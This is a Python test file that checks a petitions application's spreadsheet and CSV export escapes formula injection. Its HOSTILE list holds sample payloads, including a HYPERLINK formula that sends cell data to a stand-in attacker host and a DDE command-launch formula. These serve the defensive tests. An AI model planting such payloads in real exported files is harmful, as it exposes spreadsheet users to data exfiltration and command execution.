"""Every cell written from user text is inert text in the workbook (formula injection, CWE-1236).

OWASP ASVS 5.0: V1.2.10 (CSV and formula injection: a cell starting with = + - @, tab or NUL is written as inert
text).
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from petitions.spreadsheets import (
    CSV_CHUNK_ROWS,
    csv_bytes,
    csv_stream,
    new_workbook,
    sheet_cell,
    workbook_bytes,
    write_table_workbook,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84912345678",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _round_trip(values: list[object]) -> tuple[list[object], list[str | None], bytes]:
    workbook = new_workbook()
    ws = workbook.create_sheet("Sổ")
    ws.append([sheet_cell(ws, value) for value in values])
    data = workbook_bytes(workbook)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = list(next(sheet.iter_rows()))
    return [c.value for c in cells], [c.data_type for c in cells], data


def test_text_that_looks_like_a_formula_is_stored_as_text():
    values, types, data = _round_trip(HOSTILE)
    # XML reads a bare carriage return back as a line feed, unless the writer escaped it: openpyxl does with lxml,
    # which the lock brings since the CI gates (cyclonedx-bom), not without it. The text is otherwise unchanged.
    assert [str(v).replace("\r", "\n") for v in values] == [v.replace("\r", "\n") for v in HOSTILE]
    assert set(types) == {"s"}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_numbers_dates_and_blanks_keep_their_type():
    values, types, _ = _round_trip([42, 3.5, None, "Nguyễn Văn An"])
    assert values == [42, 3.5, None, "Nguyễn Văn An"]
    assert types[:2] == ["n", "n"] and types[3] == "s"


@pytest.mark.parametrize("control", ["\x00", "\x07", "\x1b", "\x1f"])
def test_control_characters_are_dropped_instead_of_failing_the_export(control):
    values, _, _ = _round_trip([f"Lê{control} Thị Hằng"])
    assert values == ["Lê Thị Hằng"]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_from_text_never_start_a_formula(value: str) -> None:
    from petitions.spreadsheets import csv_cell

    cell = csv_cell(value)
    assert cell == "'" + value


def test_csv_keeps_numbers_dates_and_vietnamese_text() -> None:
    import csv
    from datetime import date

    from petitions.spreadsheets import csv_bytes

    data = csv_bytes(["a", "b", "c", "d"], [(-5, date(2026, 3, 2), "Nguyễn Văn An", None)])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["a", "b", "c", "d"], ["-5", "02/03/2026", "Nguyễn Văn An", ""]]


def test_a_streamed_csv_is_the_whole_csv_in_chunks_consumed_as_they_come() -> None:
    read = []

    def rows():  # type: ignore[no-untyped-def]
        for number in range(1_203):
            read.append(number)
            yield (f"Nguyễn Văn {number}", HOSTILE[number % len(HOSTILE)], date(2026, 1, 2))

    stream = csv_stream(("Họ tên", "Ghi chú", "Ngày"), rows())
    first = next(stream)
    assert first == "\ufeffHọ tên,Ghi chú,Ngày\r\n".encode() and read == []  # nothing read before it is asked for
    second = next(stream)
    assert len(read) == CSV_CHUNK_ROWS and second.count(b"\r\n") == CSV_CHUNK_ROWS
    body = first + second + b"".join(stream)
    assert body == csv_bytes(("Họ tên", "Ghi chú", "Ngày"), [(f"Nguyễn Văn {n}", HOSTILE[n % len(HOSTILE)], date(2026, 1, 2)) for n in range(1_203)])
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(lines) == 1_204 and lines[1] == ["Nguyễn Văn 0", "'" + HOSTILE[0], "02/01/2026"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)


def test_a_table_workbook_goes_on_to_a_new_sheet_at_the_row_limit() -> None:
    target = io.BytesIO()
    rows = [(f"Dòng {n}", HOSTILE[0], n, date(2026, 1, 2)) for n in range(7)]
    assert write_table_workbook(target, "Sổ đăng ký đơn: [2026]", ("Tên", "Ghi chú", "Số", "Ngày"), rows, max_rows=3) == 7
    workbook = openpyxl.load_workbook(io.BytesIO(target.getvalue()))
    assert workbook.sheetnames == ["Sổ đăng ký đơn 2026", "Sổ đăng ký đơn 2026 (2)", "Sổ đăng ký đơn 2026 (3)", "Sổ đăng ký đơn 2026 (4)"]
    sheets = [list(sheet.iter_rows()) for sheet in workbook.worksheets]
    assert [len(rows) for rows in sheets] == [3, 3, 3, 2]  # each with its header row
    assert all(rows[0][0].value == "Tên" and rows[0][0].font.b for rows in sheets)
    cells = [row for rows in sheets for row in rows[1:]]
    assert [row[0].value for row in cells] == [f"Dòng {n}" for n in range(7)]
    assert all(row[1].value == HOSTILE[0] and row[1].data_type == "s" for row in cells)
    assert cells[0][3].number_format == "dd/mm/yyyy"


def test_an_empty_table_workbook_still_has_its_header() -> None:
    target = io.BytesIO()
    assert write_table_workbook(target, "Công dân", ("Tên",), []) == 0
    sheet = openpyxl.load_workbook(io.BytesIO(target.getvalue())).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Tên"]]
